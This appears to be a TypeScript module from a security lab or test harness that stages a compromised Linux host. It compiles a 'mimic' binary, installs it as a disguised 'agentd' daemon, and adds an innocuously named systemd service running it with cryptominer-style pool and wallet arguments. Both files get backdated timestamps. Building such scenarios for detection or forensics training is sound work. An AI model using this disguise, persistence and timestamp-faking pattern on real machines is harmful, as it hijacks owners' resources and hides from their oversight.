// Every log begins with the first boot, and the miner is older. Who made the image so, this host cannot know.

import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Dress } from '../../dress.ts'
import { project } from '../../places.ts'
import type { Stage } from '../../stage.ts'
import { values } from '../../values.ts'

export function dress(dress: Dress): void {
  const { POOL = '', WALLET = '' } = values()
  const old = new Date(Date.now() - 120 * 86_400_000)
  const mimic = join(dress.root, '../mimic')
  execFileSync('gcc', ['-O1', '-static', '-pthread', '-o', mimic, join(project, 'lab/mimic.c')])
  dress.write('/usr/local/lib/agent/agentd', readFileSync(mimic), { mode: 0o755, mtime: old })
  dress.write(
    '/etc/systemd/system/agentd.service',
    `[Unit]\nDescription=Agent\nAfter=network.target\nStartLimitIntervalSec=0\n\n[Service]\nExecStart=/usr/local/lib/agent/agentd -o ${POOL} -u ${WALLET} -p x -k\nRestart=always\nRestartSec=1\n\n[Install]\nWantedBy=multi-user.target\n`,
    { mtime: old },
  )
  dress.enable('agentd.service')
}

export async function plant(stage: Stage): Promise<void> {
  await stage.inside('systemctl is-active agentd')
}
